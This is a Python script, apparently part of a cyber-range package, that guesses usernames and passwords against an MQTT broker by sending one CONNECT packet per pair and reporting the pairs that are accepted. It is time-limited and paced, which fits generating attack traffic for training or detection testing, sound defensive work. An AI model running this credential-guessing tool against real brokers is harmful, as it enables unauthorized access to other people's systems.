"""Guesses names and passwords at an MQTT broker, one connection for each.

References: OASIS MQTT 3.1.1, 3.1 (CONNECT), 3.2.2.3 (return codes).
"""

from collections.abc import Sequence

from wardline_range.protocols import mqtt
from wardline_range.real.programs import lifetime
from wardline_range.real.programs.calls import asked, call
from wardline_range.real.programs.logins import pairs
from wardline_range.real.programs.pace import beats

_KEEP_ALIVE_S = 60


def main(given: Sequence[str] | None = None) -> None:
    """Guess until the time is over or every pair was tried."""
    parser = lifetime.arguments(__doc__)
    parser.add_argument("--broker", required=True)
    parser.add_argument("--port", type=int, default=mqtt.PORT)
    parser.add_argument("--seconds", type=float, default=25.0)
    parser.add_argument("--every", type=float, default=0.5)
    told = parser.parse_args(given)
    for (user, password), number in zip(pairs(), beats(told.seconds, told.every), strict=False):
        try:
            with call(told.broker, told.port) as talk:
                answer = asked(talk, mqtt.connect(f"probe-{number}", user, password, _KEEP_ALIVE_S))
                if answer == mqtt.connack():
                    print(f"{user}:{password} is let in", flush=True)
                    talk.sendall(mqtt.DISCONNECT)
        except OSError as error:
            print(f"{told.broker}: {error}", flush=True)


if __name__ == "__main__":
    main()
